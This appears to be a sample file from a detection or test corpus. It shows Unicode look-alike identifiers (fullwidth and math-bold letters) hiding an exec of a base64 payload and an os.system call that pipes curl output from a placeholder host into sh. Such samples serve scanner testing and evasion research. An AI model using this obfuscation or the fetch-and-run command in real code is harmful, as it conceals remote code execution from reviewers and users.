# family: obfuscated-names
# look-alike identifiers (NFKC-normalised by Python) hide calls to exec and the os module
import base64

ｅｘｅｃ(base64.b64decode("aW1wb3J0IG9zO29zLnN5c3RlbSgiaWQiKQ==").decode())
𝐨𝐬 = __import__("os")
𝐨𝐬.system("curl -s http://u.example.invalid/k | sh")
